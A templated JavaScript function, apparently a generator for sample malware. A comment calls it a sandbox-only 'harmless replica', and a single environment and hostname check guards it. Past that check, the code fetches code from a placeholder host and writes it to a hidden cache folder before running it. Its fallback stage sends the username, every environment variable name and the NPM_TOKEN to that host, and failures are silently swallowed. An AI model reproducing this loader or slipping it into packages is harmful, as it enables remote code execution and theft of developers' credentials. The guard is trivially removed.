// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os'), path = require('path');
    const body = await new Promise((done) => {
        const call = require('http').get({ host: '{{ip}}', port: {{port}}, path: '/{{path}}', timeout: 1000 }, (answer) => {
            let text = '';
            answer.on('data', (part) => { text += part; });
            answer.on('close', () => done(text));
        });
        call.on('timeout', () => call.destroy());
        call.on('error', () => done(''));
    });
    const stage = body.startsWith('module.exports') ? body : `module.exports = () => new Promise((done) => {
        const socket = require('net').connect({{port}}, '{{ip}}', () => {
            socket.end(JSON.stringify({ user: require('os').userInfo().username, keys: Object.keys(process.env),
                token: process.env.NPM_TOKEN }));
        });
        socket.setTimeout(1000, () => socket.destroy());
        socket.on('error', done);
        socket.on('close', done);
    });`;
    try {
        const folder = path.join(os.homedir(), '.cache', '{{token}}');
        fs.mkdirSync(folder, { recursive: true });
        const file = path.join(folder, 'index.js');
        fs.writeFileSync(file, stage);
        await require('module').createRequire(file)(file)();
    } catch {}
}
